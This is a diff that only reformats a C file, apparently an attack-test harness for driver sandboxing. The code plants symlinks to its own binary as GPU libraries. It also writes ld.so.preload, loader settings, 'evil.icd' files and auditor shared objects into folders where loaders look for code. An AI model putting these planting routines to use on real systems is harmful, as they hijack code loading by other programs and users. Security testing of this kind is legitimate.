@@ -2,8 +2,6 @@
 /// What a driver may leave in the folder it was given, for other drivers, later runs, or whoever
 /// removes the folder.
 #define _GNU_SOURCE
-#include "attack.h"
-
 #include <dirent.h>
 #include <dlfcn.h>
 #include <fcntl.h>
@@ -17,6 +15,8 @@
 #include <sys/stat.h>
 #include <unistd.h>
 
+#include "attack.h"
+
 enum { kManyFiles = 5000, kDepth = 1500, kBigFiles = 4 };
 static const off_t kBigFile = 100 << 20;
 
@@ -29,7 +29,8 @@ static const char* own_path(void) {
 static int each_neighbour(const char* folder, int (*use)(const char* path), int depth) {
     int count = 0;
     DIR* entries = opendir(folder);
-    for (const struct dirent* entry = entries ? readdir(entries) : NULL; entry; entry = readdir(entries)) {
+    for (const struct dirent* entry = entries ? readdir(entries) : NULL; entry;
+         entry = readdir(entries)) {
         char path[4096];
         struct stat info;
         (void)snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
@@ -106,11 +107,13 @@ static void plant_file_link(void) {
 
 /// Where libraries, loaders and compilers look for more code.
 static void plant_libraries(void) {
-    static const char* const kNames[] = {"libOpenCL.so.1", "libcuda.so.1", "libnvidia-ml.so.1", "libvulkan.so.1",
-                                         "libze_loader.so.1"};
+    static const char* const kNames[] = {"libOpenCL.so.1", "libcuda.so.1", "libnvidia-ml.so.1",
+                                         "libvulkan.so.1", "libze_loader.so.1"};
     for (size_t i = 0; i < sizeof kNames / sizeof *kNames; ++i)
         see(kNames[i], symlink(own_path(), path_in(own_home(), kNames[i])));
-    for (const char* const* folder = (const char* const[]){"vulkan", "pocl", "cuda", ".config", NULL}; *folder; ++folder) {
+    for (const char* const* folder =
+             (const char* const[]){"vulkan", "pocl", "cuda", ".config", NULL};
+         *folder; ++folder) {
         (void)mkdir(path_in(own_home(), *folder), 0755);
         see(*folder, symlink(own_path(), marked(path_in(own_home(), *folder), "kernel.so")));
         (void)write_text(marked(path_in(own_home(), *folder), "pipe.icd"), O_CREAT, own_path());
@@ -119,16 +122,21 @@ static void plant_libraries(void) {
     }
 }
 
-/// Settings and auditors that loaders, compilers and drivers look for in a home; LD_AUDIT and the like for what is
-/// started from here.
+/// Settings and auditors that loaders, compilers and drivers look for in a home; LD_AUDIT and the
+/// like for what is started from here.
 static void plant_settings(void) {
     static const char* const kFiles[][2] = {
-        {".drirc", "<driconf/>"}, {"ld.so.preload", ""}, {"pocl.conf", ""},
+        {".drirc", "<driconf/>"},
+        {"ld.so.preload", ""},
+        {"pocl.conf", ""},
         {"vk_loader_settings.json", "{\"file_format_version\":\"1.0.0\",\"settings\":{}}"}};
     for (size_t i = 0; i < sizeof kFiles / sizeof *kFiles; ++i)
-        (void)write_text(path_in(own_home(), kFiles[i][0]), O_CREAT, kFiles[i][1][0] ? kFiles[i][1] : own_path());
-    for (const char* const* folder = (const char* const[]){"vulkan", "vulkan/implicit_layer.d", "pocl", "pocl/kcache", ".nv",
-                                                           "OpenCL", "OpenCL/vendors", NULL}; *folder; ++folder) {
+        (void)write_text(path_in(own_home(), kFiles[i][0]), O_CREAT,
+                         kFiles[i][1][0] ? kFiles[i][1] : own_path());
+    for (const char* const* folder =
+             (const char* const[]){"vulkan", "vulkan/implicit_layer.d", "pocl", "pocl/kcache",
+                                   ".nv", "OpenCL", "OpenCL/vendors", NULL};
+         *folder; ++folder) {
         (void)mkdir(path_in(own_home(), *folder), 0755);
         (void)write_text(marked(path_in(own_home(), *folder), "evil.icd"), O_CREAT, own_path());
         (void)symlink(own_path(), marked(path_in(own_home(), *folder), "auditor.so"));
